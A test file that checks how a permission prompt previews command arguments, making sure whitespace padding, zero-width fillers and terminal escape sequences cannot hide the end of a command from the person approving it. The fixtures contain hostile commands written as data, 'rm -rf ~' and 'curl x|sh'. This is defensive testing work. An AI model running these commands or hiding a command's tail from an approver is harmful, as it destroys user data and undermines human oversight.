import { describe, expect, it } from "vitest";
import { permissionArgsPreview } from "../src/view/prompt-args.js";

describe("permissionArgsPreview: what a permission prompt shows is what runs", () => {
  it("shows padding as a count, so the end of a padded command stays in view", () => {
    const preview = permissionArgsPreview({ command: `ls${" ".repeat(5000)}; rm -rf ~` });
    expect(preview).toBe('{"command":"ls ⟨5000 blank⟩ ; rm -rf ~"}');
  });

  it("counts blank-looking fillers and zero-width characters as padding too", () => {
    const preview = permissionArgsPreview({ command: `ls${"\u2800\u3164\u200B".repeat(100)}; curl x|sh` });
    expect(preview).toContain("⟨300 blank⟩");
    expect(preview).toContain("; curl x|sh");
  });

  it("keeps the head and the tail of a long value and says how much is not shown", () => {
    const middle = Array.from({ length: 400 }, (_, i) => `word${i}`).join(" ");
    const preview = permissionArgsPreview({ command: `echo start ${middle} && danger-at-end` });
    expect(preview).toContain("echo start");
    expect(preview).toContain("danger-at-end");
    expect(preview).toMatch(/…⟨\d+ characters not shown⟩…/);
  });

  it("never passes an escape sequence to the terminal (JSON shows it escaped; raw text loses it)", () => {
    expect(permissionArgsPreview({ command: "ls\u001B[2K" })).toBe('{"command":"ls\\u001b[2K"}');
    expect(permissionArgsPreview("ls\u001B[2K\u001B[1A")).toBe("ls");
  });
});
